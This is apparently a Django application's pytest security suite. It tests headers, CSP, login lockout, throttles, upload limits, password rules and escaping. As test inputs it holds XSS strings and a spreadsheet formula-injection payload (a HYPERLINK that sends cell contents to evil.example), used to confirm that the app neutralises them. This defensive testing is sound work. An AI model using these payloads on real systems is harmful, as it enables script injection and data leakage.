"""Security settings: headers, CSP-clean pages, login lockout, throttles, body limits,
formula escaping in downloads, auto-escaping in pages and PDFs, password rules."""

import base64
import csv
import hashlib
import io
import re
from datetime import timedelta

import pytest
from axes.models import AccessAttempt
from django.contrib.auth.password_validation import validate_password
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook

from common.middleware import MULTIPART_SLACK_BYTES
from labs.api.throttling import LabAPIKeyRateThrottle, SessionUserRateThrottle
from labs.importers import write_table
from labs.importers.values import unescape_text
from labs.models import Participant, Submission
from tests.analysis.conftest import demo  # noqa: F401 (a fixture)
from tests.analysis.reports.conftest import analysed, pdf_text  # noqa: F401 (fixtures)
from tests.factories import UserFactory
from tests.labs.api import as_csv, build_world, rows

EVIL_LAB = "<script>alert(1)</script>"
EVIL_TITLE = "<img src=x onerror=alert(2)> ILC"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(autouse=True)
def _fresh_caches():
    cache.clear()  # throttle buckets


@pytest.fixture
def world(db):
    return build_world()


# --- headers ----------------------------------------------------------------------------------

CSP = (
    "default-src 'self'; script-src 'self'; "
    "style-src 'self' 'sha256-2Iqu4MW0P4n79bqVmTDfLWhO8TS7MxwRJn7HVNDr7EQ='; "
    "style-src-attr 'unsafe-inline'; img-src 'self' data:; font-src 'self'; "
    "connect-src 'self'; object-src 'none'; base-uri 'self'; form-action 'self'; "
    "frame-ancestors 'none'"
)


@pytest.mark.django_db
@pytest.mark.parametrize("url", ["/accounts/login/", "/healthz", "/api/v1/comparisons/"])
def test_security_headers_have_exact_values(client, url):
    response = client.get(url)
    assert response["Content-Security-Policy"] == CSP
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"
    assert response["Permissions-Policy"] == (
        "camera=(), microphone=(), geolocation=(), payment=(), usb=()"
    )


def test_the_csp_style_hash_is_that_of_matplotlibs_svg_style_block():
    from analysis import charts

    svg = charts.en_chart(["L01", "L02"], [0.4, -1.3], title="t", limit=1.0)
    blocks = re.findall(r"<style[^>]*>(.*?)</style>", svg, re.S)
    assert blocks, "matplotlib no longer writes a <style> block: drop its hash from the CSP"
    for block in blocks:
        digest = base64.b64encode(hashlib.sha256(block.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in CSP


@pytest.mark.django_db
def test_hsts_and_secure_cookies_in_production_settings(client, settings):
    settings.SECURE_HSTS_SECONDS = 31536000
    settings.SECURE_HSTS_INCLUDE_SUBDOMAINS = settings.SECURE_HSTS_PRELOAD = True
    settings.SESSION_COOKIE_SECURE = settings.CSRF_COOKIE_SECURE = True
    UserFactory.create(username="hana", password="a-long-passphrase-9")
    page = client.get("/accounts/login/", secure=True)
    assert page["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains; preload"
    csrf = page.cookies["csrftoken"]
    assert (csrf["secure"], csrf["samesite"]) == (True, "Lax")
    response = client.post(
        "/accounts/login/", {"username": "hana", "password": "a-long-passphrase-9"}, secure=True
    )
    assert response.status_code == 302
    session = response.cookies["sessionid"]
    assert (session["secure"], session["httponly"], session["samesite"]) == (True, True, "Lax")


# --- CSP: pages use only their own files ------------------------------------------------------


def assert_csp_clean(html: str, where: str) -> None:
    """No inline script, no event-handler attribute, every <style> allowed by its hash."""
    for attrs, body in re.findall(r"<script\b([^>]*)>(.*?)</script>", html, re.S | re.I):
        assert "src=" in attrs and not body.strip(), f"inline script in {where}"
        found = re.search(r'src="([^"]+)"', attrs)
        assert found is not None, f"script without src in {where}"
        src = found.group(1)
        assert src.startswith("/static/"), f"foreign script {src} in {where}"
    handler = re.search(r"<[a-z][^>]*\son[a-z]+\s*=", html, re.I)
    assert not handler, f"event handler attribute in {where}: {handler.group(0)[:80]}"
    assert "javascript:" not in html.lower(), where
    for block in re.findall(r"<style[^>]*>(.*?)</style>", html, re.S | re.I):
        digest = base64.b64encode(hashlib.sha256(block.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in CSP, f"<style> not allowed by the CSP in {where}"
    for href in re.findall(r'<link[^>]+href="([^"]+)"', html):
        assert href.startswith("/static/"), f"foreign stylesheet {href} in {where}"


# --- login lockout (django-axes) --------------------------------------------------------------


@pytest.mark.django_db
def test_login_locks_after_the_failure_limit_and_unlocks_after_the_cool_off(client, settings):
    assert settings.AXES_FAILURE_LIMIT == 5
    UserFactory.create(username="lena", password="correct-horse-battery")
    login = "/accounts/login/"
    bad = {"username": "lena", "password": "wrong-guess"}
    statuses = [client.post(login, bad).status_code for _ in range(5)]
    assert statuses == [200, 200, 200, 200, 429]
    good = {"username": "lena", "password": "correct-horse-battery"}
    locked = client.post(login, good)
    assert locked.status_code == 429
    assert "Too many failed sign-in attempts (5)" in locked.content.decode()
    assert "_auth_user_id" not in client.session
    # Another address is not locked out of the same account (username + address pair).
    assert client.post(login, good, REMOTE_ADDR="192.0.2.7").status_code == 302
    # After the cool-off the right password works again, and the failures are forgotten.
    client.logout()
    AccessAttempt.objects.update(attempt_time=timezone.now() - timedelta(minutes=16))
    assert client.post(login, good).status_code == 302
    assert not AccessAttempt.objects.filter(username="lena", ip_address="127.0.0.1").exists()


@pytest.mark.django_db
def test_admin_login_shares_the_lockout(client):
    UserFactory.create(username="root2", password="correct-horse-battery", is_staff=True)
    bad = {"username": "root2", "password": "nope", "next": "/admin/"}
    assert [client.post("/admin/login/", bad).status_code for _ in range(5)][-1] == 429
    good = {"username": "root2", "password": "correct-horse-battery"}
    assert client.post("/accounts/login/", good).status_code == 429


@pytest.mark.django_db
def test_force_login_helpers_still_work_with_axes(client):
    user = UserFactory.create(username="tess")
    client.force_login(user)
    assert client.get("/lab/").status_code == 200


# --- password reset: throttled per address and per e-mail address ---------------------------

RESET = "/accounts/password_reset/"


@pytest.mark.django_db
def test_password_reset_is_throttled_per_client_address(client, settings, mailoutbox):
    assert settings.PASSWORD_RESET_LIMIT == 5
    assert settings.PASSWORD_RESET_WINDOW.total_seconds() == 3600
    for i in range(3):
        UserFactory.create(username=f"reset{i}", email=f"reset{i}@lab.example")
    emails = [f"reset{i % 3}@lab.example" if i < 3 else f"nobody{i}@lab.example" for i in range(7)]
    statuses = [client.post(RESET, {"email": e}).status_code for e in emails]
    assert statuses == [302, 302, 302, 302, 302, 429, 429]
    refused = client.post(RESET, {"email": "reset0@lab.example"})
    assert refused.status_code == 429
    assert "Too many password resets (5)" in refused.content.decode()
    assert sorted(m.to[0] for m in mailoutbox) == [f"reset{i}@lab.example" for i in range(3)]
    # another address is not throttled by this one's attempts
    other = client.post(RESET, {"email": "reset1@lab.example"}, REMOTE_ADDR="192.0.2.7")
    assert other.status_code == 302 and len(mailoutbox) == 4
    # a form error (no e-mail sent) does not count and is not refused
    assert client.post(RESET, {"email": "not an address"}).status_code == 200


@pytest.mark.django_db
def test_password_reset_is_throttled_per_email_address(client, settings, mailoutbox):
    UserFactory.create(username="target", email="target@lab.example")
    addresses = [f"192.0.2.{i}" for i in range(1, 8)]
    statuses = [
        client.post(RESET, {"email": "Target@Lab.example "}, REMOTE_ADDR=a).status_code
        for a in addresses
    ]  # one e-mail address from seven client addresses; case and spaces do not matter
    assert statuses == [302, 302, 302, 302, 302, 429, 429]
    assert len(mailoutbox) == 5
    # after the window, resets work again
    cache.clear()
    assert client.post(RESET, {"email": "target@lab.example"}).status_code == 302
    assert len(mailoutbox) == 6


@pytest.mark.django_db
def test_password_reset_limit_comes_from_the_settings(client, settings, mailoutbox):
    settings.PASSWORD_RESET_LIMIT = 1
    assert client.post(RESET, {"email": "a@lab.example"}).status_code == 302
    assert client.post(RESET, {"email": "b@lab.example"}).status_code == 429


# --- API throttling ---------------------------------------------------------------------------


def api_views():
    """Every view class routed under /api/v1/."""

    def walk(patterns, prefix):
        for p in patterns:
            if isinstance(p, URLResolver):
                yield from walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern) and (prefix + str(p.pattern)).startswith("api/v1/"):
                # as_view() sets cls on the view function it returns
                yield prefix + str(p.pattern), p.callback.cls  # type: ignore[attr-defined]

    return list(walk(get_resolver().url_patterns, ""))


def test_every_api_view_is_throttled_per_key_and_per_user():
    views = api_views()
    assert len(views) > 10
    for route, view in views:
        assert {LabAPIKeyRateThrottle, SessionUserRateThrottle} <= set(view.throttle_classes), route


def test_throttles_are_per_key_and_per_person(world, settings):
    settings.REST_FRAMEWORK = {
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {"api_key": "3/min", "user": "2/min", "anon": "60/min"},
    }
    url = "/api/v1/comparisons/"
    key_a, staff_a = world.client("key_a"), world.client("staff_a")
    assert [key_a.get(url).status_code for _ in range(4)] == [200, 200, 200, 429]
    assert [staff_a.get(url).status_code for _ in range(3)] == [200, 200, 429]
    refused = staff_a.get(url)
    assert refused.status_code == 429 and int(refused["Retry-After"]) > 0
    assert world.client("key_b").get(url).status_code == 200
    assert world.client("staff_b").get(url).status_code == 200


# --- body size limits: 413 before anything is read --------------------------------------------


def oversized_csv(limit: int) -> bytes:
    data = as_csv(rows(note="n" * 200))
    return data + b"#" * (limit + MULTIPART_SLACK_BYTES + 1 - len(data))


def test_web_upload_over_the_limit_is_413_and_stores_nothing(world, settings, monkeypatch):
    settings.MAX_UPLOAD_BYTES = 1000

    def never(*args, **kwargs):
        raise AssertionError("the body was parsed")

    monkeypatch.setattr("django.http.multipartparser.MultiPartParser.parse", never)
    before = Submission.objects.count()
    client = world.client("staff_a")
    upload = io.BytesIO(oversized_csv(1000))
    upload.name = "results.csv"
    response = client.post(
        "/lab/comparisons/IMU-A-01/upload/", {"file": upload, "action": "submit"}
    )
    assert response.status_code == 413
    assert "the limit is 65 kB" in response.content.decode()
    assert Submission.objects.count() == before


def test_api_upload_over_the_limit_is_413_json_and_stores_nothing(world, settings, monkeypatch):
    settings.MAX_UPLOAD_BYTES = 1000
    monkeypatch.setattr("django.http.multipartparser.MultiPartParser.parse", lambda *a: 1 / 0)
    before = Submission.objects.count()
    upload = io.BytesIO(oversized_csv(1000))
    upload.name = "results.csv"
    response = world.client("key_a").post(
        "/api/v1/comparisons/IMU-A-01/submissions/upload/", {"file": upload}, format="multipart"
    )
    assert response.status_code == 413
    assert "limit is" in response.json()["detail"]
    assert Submission.objects.count() == before


def test_any_body_over_the_data_limit_is_413(world, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 2000
    response = world.client("staff_a").post(
        "/lab/comparisons/IMU-A-01/results/",
        "note=" + "x" * 3000,
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code == 413
    assert "the limit is 2 kB" in response.content.decode()


def test_a_body_under_the_limits_reaches_the_view(world, settings):
    settings.MAX_UPLOAD_BYTES = 100_000
    upload = io.BytesIO(as_csv(rows()))
    upload.name = "results.csv"
    response = world.client("staff_a").post(
        "/lab/comparisons/IMU-A-01/upload/", {"file": upload, "action": "draft"}
    )
    assert response.status_code == 302
    assert Submission.objects.filter(participant=world.part_a, status="draft").count() == 1


# --- formula escaping in CSV / XLSX downloads -------------------------------------------------

TRIGGERS = [FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd", "'=already quoted"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_text_is_escaped_and_numbers_stay_numbers(fmt):
    records = [
        {"lab": text, "device": "MEMS 1", "sensitivity": -0.5, "en": -1.25, "note": text}
        for text in TRIGGERS
    ]
    data = write_table(records, format=fmt, columns=["lab", "device", "sensitivity", "en", "note"])
    if fmt == "csv":
        table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    else:
        sheet = load_workbook(io.BytesIO(data)).active
        table = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert len(table) == len(TRIGGERS)
    for text, (lab, device, sensitivity, en, note) in zip(TRIGGERS, table, strict=True):
        clean = text if fmt == "csv" else text.replace("\r", "\n")  # XML reads CR as LF
        assert lab == note == "'" + clean
        if clean == text:
            assert unescape_text(lab) == text  # what the importer reads back
        assert device == "MEMS 1"
        if fmt == "csv":
            assert (sensitivity, en) == ("-0.5", "-1.25")  # plain numbers, no quote
        else:
            assert (sensitivity, en) == (-0.5, -1.25)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_template_download_escapes_a_formula_device_name_and_reads_back(world, fmt):
    world.cmp.devices.update(name=FORMULA)
    client = world.client("staff_a")
    response = client.get(f"/lab/comparisons/IMU-A-01/template.{fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert [r["device"] for r in table] == ["'" + FORMULA] * 4
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=list(table[0]))
        writer.writeheader()
        writer.writerows(r | {"sensitivity": "420.5", "expanded_uncertainty": "8.4"} for r in table)
        data = out.getvalue().encode()
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        header = [c.value for c in sheet[1]]
        column = header.index("device")
        assert {r[column] for r in sheet.iter_rows(min_row=2, values_only=True)} == {"'" + FORMULA}
        data = response.content
    if fmt == "csv":
        upload = io.BytesIO(data)
        upload.name = "filled.csv"
        answer = client.post(
            "/lab/comparisons/IMU-A-01/upload/", {"file": upload, "action": "draft"}
        )
        assert answer.status_code == 302  # the escaped names matched the real device
        draft = Submission.objects.get(participant=world.part_a, status="draft")
        assert {r.measurement_point.device.name for r in draft.results.all()} == {FORMULA}


# --- passwords --------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "password, reason",
    [
        ("short-1", "too short"),
        ("1234567890123", "entirely numeric"),
        ("password1234", "too common"),
        ("giuseppe.verdi.lab", "too similar"),
    ],
)
def test_weak_passwords_are_refused(password, reason):
    user = UserFactory.build(username="giuseppe.verdi.lab", first_name="Giuseppe")
    with pytest.raises(ValidationError) as refused:
        validate_password(password, user)
    assert reason in " ".join(refused.value.messages)


@pytest.mark.django_db
def test_password_change_page_applies_the_rules(client):
    user = UserFactory.create(username="vera", password="old-secret-passphrase")
    client.force_login(user)
    response = client.post(
        "/accounts/password_change/",
        {"old_password": "old-secret-passphrase", "new_password1": "12345678901",
         "new_password2": "12345678901"},
    )  # fmt: skip
    assert response.status_code == 200
    assert "This password is entirely numeric." in response.content.decode()
    user.refresh_from_db()
    assert user.check_password("old-secret-passphrase")


# --- auto-escaping: a hostile lab name and title in pages, downloads and PDFs ------------------


def evil_names(run):
    comparison = run.comparison
    comparison.title = EVIL_TITLE
    comparison.save(update_fields=["title"])
    participant = Participant.objects.get(
        comparison=comparison, laboratory__name="Alpine Vibration Metrology"
    )
    lab = participant.laboratory
    lab.name = EVIL_LAB
    lab.save(update_fields=["name"])
    return participant


@pytest.mark.django_db(transaction=True)
def test_hostile_names_are_escaped_in_every_page_and_absent_from_reports(analysed, client):  # noqa: F811
    from analysis.reports.assemble import report_data
    from analysis.reports.render import render_report

    participant = evil_names(analysed)
    code = analysed.comparison.code
    client.force_login(UserFactory.create(username="evil-coord", is_superuser=True, is_staff=True))
    coordinator_pages = [
        "/coordinator/", f"/coordinator/{code}/", f"/coordinator/{code}/review/",
        f"/coordinator/{code}/results/", f"/coordinator/{code}/scores/",
        f"/coordinator/{code}/charts/", f"/coordinator/{code}/compatibility/",
        f"/coordinator/{code}/analysis/runs/", "/lab/", "/",
    ]  # fmt: skip
    seen_lab = seen_title = 0
    for url in coordinator_pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert EVIL_LAB not in html and "<img src=x" not in html, url
        seen_lab += "&lt;script&gt;alert(1)&lt;/script&gt;" in html
        seen_title += "&lt;img src=x onerror=alert(2)&gt; ILC" in html
        assert_csp_clean(html, url)
    assert seen_lab >= 2 and seen_title >= 3  # the names are shown, escaped

    member = participant.laboratory.members.first().user
    client.force_login(member)
    for url in ("/lab/", f"/lab/comparisons/{code}/", f"/lab/comparisons/{code}/submissions/"):
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert "<img src=x" not in html and EVIL_LAB not in html, url
        if "submissions" not in url:  # the history page does not repeat the title
            assert "&lt;img src=x onerror=alert(2)&gt; ILC" in html, url
        assert_csp_clean(html, url)

    for who in (participant, None):  # the lab's own report and the summary
        text = "\n".join(pdf_text(render_report(report_data(run=analysed, participant=who))))
        assert "alert(1)" not in text and "script" not in text.lower()
        assert "<img src=x onerror=alert(2)> ILC" in " ".join(text.split())


@pytest.mark.django_db(transaction=True)
def test_scores_download_keeps_negative_scores_numeric_and_escapes_names(analysed, client):  # noqa: F811
    analysed.comparison.devices.filter(name="MEMS 1").update(name=FORMULA)
    client.force_login(UserFactory.create(username="dl-coord", is_superuser=True, is_staff=True))
    code = analysed.comparison.code
    response = client.get(f"/coordinator/{code}/scores.csv")
    assert response.status_code == 200
    table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert {r["device"] for r in table} >= {"'" + FORMULA}
    negatives = [r["en"] for r in table if r["en"].startswith("-")]
    assert negatives and all(float(v) < 0 for v in negatives)  # numbers, not quoted text
    assert not any(r["en"].startswith("'") for r in table)
    xlsx = client.get(f"/coordinator/{code}/scores.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    header = [c.value for c in sheet[1]]
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    en = [row[header.index("en")] for row in values]
    assert all(isinstance(v, float) for v in en) and min(en) < 0
    assert "'" + FORMULA in {row[header.index("device")] for row in values}


@pytest.mark.django_db(transaction=True)
def test_export_results_command_escapes_formula_names(analysed, tmp_path):  # noqa: F811
    analysed.comparison.devices.filter(name="MEMS 1").update(name=FORMULA)
    target = tmp_path / "export.csv"
    call_command("export_results", analysed.comparison.code, "--output", str(target))
    table = list(csv.DictReader(io.StringIO(target.read_text("utf-8"), newline="")))
    assert "'" + FORMULA in {r["device"] for r in table}
    assert not any(r["device"].startswith("=") for r in table)
